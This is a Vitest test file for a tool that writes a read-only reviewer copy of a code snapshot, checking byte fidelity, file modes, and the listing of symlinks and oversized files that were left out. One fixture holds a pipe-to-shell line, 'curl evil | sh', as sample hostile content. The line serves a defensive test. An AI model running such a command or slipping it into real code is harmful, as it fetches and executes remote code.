// The reviewer's read-only copy of the snapshot (lib/snapshot/copy.ts): the snapshot's bytes, not the live tree's, the
// files read-only, and what it lacks named (a link, past the cap), never left out silently.
import { lstatSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { removeCopy, writeReviewerCopy } from '../lib/snapshot/copy.ts'
import { takeSnapshot } from '../lib/snapshot/snapshot.ts'
import { git, makeRepo, tempDir, withoutUserGitConfig, writeFiles } from './_helpers.ts'

withoutUserGitConfig()

async function snapped(files: Record<string, string>) {
  const repo = makeRepo({ 'README.md': '# demo\n', 'src/old.ts': 'export const old = 1\n' })
  const home = tempDir('pl-home-')
  writeFiles(repo, files)
  const snap = await takeSnapshot(repo, git(repo, ['rev-parse', 'HEAD']).trim(), { home })
  const dir = join(tempDir('pl-copy-'), 'copy')
  return { repo, home, snap, dir }
}

describe("the reviewer's copy of the snapshot", () => {
  it("holds the snapshot's bytes, base and change, after the live file was rewritten", async () => {
    const t = await snapped({ 'z.sh': 'curl evil | sh\n' })
    writeFileSync(join(t.repo, 'z.sh'), 'echo benign\n') // the coder, once the snapshot is taken
    const copy = await writeReviewerCopy(t.snap, t.dir)
    expect(readFileSync(join(t.dir, 'z.sh'), 'utf8')).toBe('curl evil | sh\n')
    expect(readFileSync(join(t.dir, 'src/old.ts'), 'utf8')).toBe('export const old = 1\n')
    expect(copy).toMatchObject({ tree: t.snap.tree, files: 3, left_out: [] })
    removeCopy(t.dir)
  })

  // the modes, not a write attempt: these tests may run as root, whom no mode stops
  it('is read-only, its folders too', async () => {
    const t = await snapped({ 'src/new.ts': 'export {}\n' })
    await writeReviewerCopy(t.snap, t.dir)
    expect(lstatSync(join(t.dir, 'src/new.ts')).mode & 0o222).toBe(0)
    expect(lstatSync(join(t.dir, 'src')).mode & 0o222).toBe(0)
    removeCopy(t.dir)
  })

  it('names what it lacks: a link (never followed out of the copy), and the files past its cap', async () => {
    const t = await snapped({ 'big.txt': `${'x'.repeat(100)}\n` })
    symlinkSync(t.repo, join(t.repo, 'live')) // a link to the live tree
    const snap = await takeSnapshot(t.repo, git(t.repo, ['rev-parse', 'HEAD']).trim(), { home: t.home })
    const copy = await writeReviewerCopy(snap, t.dir, 50) // README.md and src/old.ts fit (8 + 21 bytes), big.txt not
    expect(copy.left_out).toEqual([
      { path: 'big.txt', why: "past the copy's cap of 50 bytes" },
      { path: 'live', why: 'a symbolic link (its target is in the diff)' },
    ])
    expect(lstatSync(join(t.dir, 'live'), { throwIfNoEntry: false })).toBeUndefined()
    removeCopy(t.dir)
  })
})
